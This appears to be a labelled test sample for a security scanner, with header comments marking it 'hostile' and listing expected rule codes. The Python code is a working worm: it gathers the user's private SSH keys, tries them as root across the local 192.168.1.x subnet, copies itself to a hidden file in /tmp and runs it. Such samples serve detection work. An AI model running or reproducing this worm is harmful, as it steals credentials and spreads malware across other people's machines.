# label: hostile
# expect: V003 V102 V303
# note: Tries its user's keys on the neighbours to spread itself; the SSH library is missing here.
# allow: V101 V301
import glob
import os

import paramiko

KEYS = glob.glob(os.path.expanduser("~/.ssh/id_*"))

for last in range(2, 255):
    for key in KEYS:
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(f"192.168.1.{last}", username="root", key_filename=key, timeout=1)
        except Exception:
            continue
        c.open_sftp().put(__file__, "/tmp/.w.py")
        c.exec_command("python3 /tmp/.w.py &")
